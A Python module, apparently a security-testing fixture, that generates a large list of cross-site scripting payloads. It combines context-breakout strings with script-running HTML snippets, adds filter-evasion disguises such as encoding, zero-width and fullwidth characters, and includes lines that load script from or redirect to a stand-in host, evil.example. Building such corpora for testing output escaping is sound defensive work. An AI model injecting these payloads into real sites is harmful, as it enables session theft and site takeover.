"""Texts that would run as script wherever a page forgot to escape them: well-known ones, and every way out of a place
combined with every way to act."""

from html import escape
from itertools import product
from pathlib import Path
from urllib.parse import quote

WELL_KNOWN = tuple(Path(__file__).with_name("hostile.txt").read_text("utf-8").splitlines())

_WAYS_OUT = (
    *("", '"', "'", '">', "'>", "`>", "-->", "--!>", "]]>", '\\">', "\\'>"),
    *(
        "</title>",
        "</textarea>",
        "</option></select>",
        "</td></tr></table>",
        "</script>",
        "</style>",
        "</svg>",
        "</noscript>",
    ),
)
_WAYS_TO_ACT = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<style>*{background:url(//evil.example/x)}</style>",
    " autofocus onfocus=alert(1) x=",
    " onpointerenter=alert(1) style=position:fixed;inset:0 x=",
)
_DISGUISES = (
    lambda text: text.upper(),
    lambda text: text.swapcase().replace("a", "\N{FULLWIDTH LATIN SMALL LETTER A}"),
    lambda text: escape(text),
    lambda text: escape(escape(text)),
    lambda text: quote(text),
    lambda text: quote(quote(text)),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("<", "<\N{ZERO WIDTH SPACE}"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}"),
    lambda text: "\N{RIGHT-TO-LEFT OVERRIDE}" + text,
)

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *WELL_KNOWN,
            *(out + act for out, act in product(_WAYS_OUT, _WAYS_TO_ACT)),
            *(disguise(act) for disguise, act in product(_DISGUISES, _WAYS_TO_ACT[:10])),
        )
    )
)
"""Each once, in a fixed order."""


def together(size: int) -> list[str]:
    """All of them, so many in one text each: whichever of them gets out shows."""
    return [" ".join(HOSTILE[at : at + size]) for at in range(0, len(HOSTILE), size)]
